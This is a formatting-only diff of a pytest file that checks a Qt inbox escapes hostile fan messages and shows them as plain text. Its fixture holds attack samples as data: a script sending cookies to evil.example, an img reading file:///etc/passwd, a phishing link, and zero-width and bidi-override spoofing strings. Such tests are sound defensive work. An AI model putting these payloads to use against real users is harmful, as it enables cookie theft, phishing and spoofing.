@@ -28,12 +28,14 @@ from tests.conftest import InMemoryKeyring
 
 HOSTILE = {
     "html": '<b>bold</b> <img src="file:///etc/passwd"> <img src="https://evil.example/pixel.png"> '
-            '<a href="https://evil.example/login">your account is locked, click here</a>',
+    '<a href="https://evil.example/login">your account is locked, click here</a>',
     "script": "<script>fetch('https://evil.example/?c='+document.cookie)</script><style>*{display:none}</style>",
     "table": "<table width=100000><tr><td>wide</td></tr></table><h1 style='color:red'>FAKE WARNING</h1>",
-    "markdown": "**bold** _it_ [link](https://evil.example) ![img](https://evil.example/x.png) `code`\n# Heading",
+    "markdown": "**bold** _it_ [link](https://evil.example) ![img](https://evil.example/x.png) `code`\n# "
+    "Heading",
     "zero-width": "pay\u200bpal\u200c.com \u200dlog\u2060in \ufeffnow",
-    "bidi": "invoice_\u202egnp.exe\u202c and \u2066\u2067isolated\u2069\u2069 \u202aLRE\u202c \u202bRLE\u202c \u200f\u200e",
+    "bidi": "invoice_\u202egnp.exe\u202c and \u2066\u2067isolated\u2069\u2069 \u202aLRE\u202c "
+    "\u202bRLE\u202c \u200f\u200e",
     "combining": "Z\u0336\u0351\u0300a\u0337\u0301l\u0338\u0302g\u0335\u0303o" + "\u0300" * 500,
     "entities": "&lt;b&gt; &amp; &#x3C;script&#x3E; &nbsp;",
     "mixed lines": "line one\r\nline two\rline three\n\n\ttabbed",
@@ -47,11 +49,19 @@ def hostile_store(tmp_path: Path) -> tuple[Store, dict[str, int]]:
     items = {}
     for number, (name, text) in enumerate({**HOSTILE, "1 MB": LONG}.items()):
         items[name] = add_message(
-            store, text, sender=f"<i>fan</i>\u202e{number}", platform="instagram", thread=f"thread-{number}",
-            message_id=f"m-{number}", created_at=f"2024-05-01T10:{number:02d}:00+00:00",
+            store,
+            text,
+            sender=f"<i>fan</i>\u202e{number}",
+            platform="instagram",
+            thread=f"thread-{number}",
+            message_id=f"m-{number}",
+            created_at=f"2024-05-01T10:{number:02d}:00+00:00",
         )
-        provenance = {"sources": [{"id": 1, "text": HOSTILE["script"] + " " + HOSTILE["html"], "score": 0.5,
-                                   "role": "example"}]}
+        provenance = {
+            "sources": [
+                {"id": 1, "text": HOSTILE["script"] + " " + HOSTILE["html"], "score": 0.5, "role": "example"}
+            ]
+        }
         save_draft(store, items[name], f"Thanks! {text[:2000]}", provenance=provenance)
     yield store, items
     store.close()
@@ -66,7 +76,9 @@ def rendered(html: str) -> str:
 
 # The offscreen platform says so whenever a shown top-level widget's size hints change.
 @pytest.mark.qt_log_ignore("propagateSizeHints")
-def test_the_inbox_shows_fan_messages_as_plain_text(qtbot, hostile_store: tuple[Store, dict[str, int]]) -> None:
+def test_the_inbox_shows_fan_messages_as_plain_text(
+    qtbot, hostile_store: tuple[Store, dict[str, int]]
+) -> None:
     store, items = hostile_store
     detail = InboxDetail()
     qtbot.addWidget(detail)
@@ -86,7 +98,9 @@ def test_the_inbox_shows_fan_messages_as_plain_text(qtbot, hostile_store: tuple[
         # past DISPLAY_LIMIT the label says how much is not shown.
         assert shown.startswith(FIRST_STRONG_ISOLATE + original[:DISPLAY_LIMIT]), name
         if len(original) <= DISPLAY_LIMIT:
-            assert shown[1:].startswith(original) and not shown[1 + len(original):].strip("\u202c\u2069"), name
+            assert shown[1:].startswith(original) and not shown[1 + len(original) :].strip("\u202c\u2069"), (
+                name
+            )
         else:
             assert "1,000,000 characters in all" in shown and len(shown) < DISPLAY_LIMIT + 200
         # The name keeps its markup as text but loses the override that would reverse what follows.
@@ -103,18 +117,32 @@ def test_the_inbox_shows_fan_messages_as_plain_text(qtbot, hostile_store: tuple[
 def test_the_conversation_above_a_message_escapes_earlier_fan_messages(qtbot, tmp_path: Path) -> None:
     with open_store(tmp_path / "store.sqlite3") as store:
         earlier = [
-            add_message(store, text, sender="fan", platform="instagram", thread="t1", message_id=f"e{n}",
-                        created_at=f"2024-05-01T09:{n:02d}:00+00:00")
+            add_message(
+                store,
+                text,
+                sender="fan",
+                platform="instagram",
+                thread="t1",
+                message_id=f"e{n}",
+                created_at=f"2024-05-01T09:{n:02d}:00+00:00",
+            )
             for n, text in enumerate([HOSTILE["html"], HOSTILE["script"], HOSTILE["table"]])
         ]
-        last = add_message(store, "and one more?", sender="fan", platform="instagram", thread="t1", message_id="e9",
-                           created_at="2024-05-01T10:00:00+00:00")
+        last = add_message(
+            store,
+            "and one more?",
+            sender="fan",
+            platform="instagram",
+            thread="t1",
+            message_id="e9",
+            created_at="2024-05-01T10:00:00+00:00",
+        )
         detail = InboxDetail()
         qtbot.addWidget(detail)
         detail.show_detail(get_detail(store, last))
         assert [line.item_id for line in detail.detail.thread] == earlier
         shown = rendered(detail.thread_label.text())
-        for text in ("<img src=\"file:///etc/passwd\">", "<script>fetch(", "<table width=100000>"):
+        for text in ('<img src="file:///etc/passwd">', "<script>fetch(", "<table width=100000>"):
             assert text in shown, text
 
 
